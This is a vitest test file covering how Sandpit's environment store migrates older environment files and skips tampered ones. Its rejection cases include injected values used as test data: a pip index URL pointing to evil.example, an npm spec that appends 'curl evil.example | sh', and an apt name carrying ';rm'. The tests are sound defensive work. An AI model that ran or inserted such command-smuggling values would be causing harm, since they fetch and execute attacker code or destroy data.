import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Logger } from '../log';
import { EnvironmentStore } from './environment-store';

const warnings: string[] = [];
const logger: Logger = {
  info: () => undefined,
  warn: (message: string) => void warnings.push(message),
  error: () => undefined,
  debug: () => undefined,
  child: () => logger,
};

/** A file as an earlier Sandpit wrote it: packages {pip, npm, apt}, bash allowed on the node image. */
function oldFile(id: string, more: Record<string, unknown> = {}): string {
  return JSON.stringify({
    id,
    name: `Old ${id}`,
    language: 'python',
    base: 'python',
    packages: { pip: ['Requests >= 2'], npm: [], apt: ['jq'] },
    network: 'none',
    limits: {},
    allowedHosts: [],
    preset: false,
    createdAt: '2026-01-01T00:00:00.000Z',
    updatedAt: '2026-01-01T00:00:00.000Z',
    ...more,
  });
}

describe('environments stored in an older shape', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'sandpit-env-migrate-'));
    warnings.length = 0;
  });
  afterEach(async () => rm(dir, { recursive: true, force: true }));
  const store = (): EnvironmentStore => new EnvironmentStore({ dir, logger });

  it('loads the {pip, npm, apt} shape with its specs normalised by their manager, and a manager left out as none', async () => {
    await writeFile(join(dir, 'old.json'), oldFile('old'));
    await writeFile(join(dir, 'no-npm.json'), oldFile('no-npm', { packages: { pip: ['numpy'] } }));
    expect((await store().get('old')).packages).toEqual({ pip: ['Requests>=2'], npm: [], apt: ['jq'], cran: [] });
    expect((await store().get('no-npm')).packages).toEqual({ pip: ['numpy'], npm: [], apt: [], cran: [] });
  });

  it('moves a bash environment off the node image (whose agent has no bash mode) to the python base, saying so', async () => {
    await writeFile(join(dir, 'shell.json'), oldFile('shell', { language: 'bash', base: 'node' }));
    const env = await store().get('shell');
    expect(env.base).toBe('python');
    expect(warnings.join('\n')).toContain('moved an environment to the "python" base: bash cannot run on "node"');
  });

  it.each([
    ['a manager Sandpit does not have', { packages: { pip: [], cargo: ['serde'] } }],
    ['an option smuggled in as a pip spec', { packages: { pip: ['--index-url=http://evil.example/simple', 'numpy'] } }],
    ['a shell line as an npm spec', { language: 'javascript', base: 'node', packages: { npm: ['lodash; curl evil.example | sh'] } }],
    ['an apt name with a shell character', { packages: { apt: ['jq;rm'] } }],
    ['pip packages in a javascript environment', { language: 'javascript', base: 'node', packages: { pip: ['numpy'] } }],
    ['the same package twice as pip compares names', { packages: { pip: ['Foo_Bar', 'foo-bar'] } }],
    ['packages that are not lists', { packages: { pip: 'numpy' } }],
  ])('refuses (skips) a tampered file: %s', async (_what, more) => {
    await writeFile(join(dir, 'tampered.json'), oldFile('tampered', more));
    await expect(store().get('tampered')).rejects.toThrow('No environment "tampered"');
    expect(warnings).toContain('skipped a corrupt environment file');
    expect((await store().list()).map((e) => e.id)).not.toContain('tampered');
  });
});
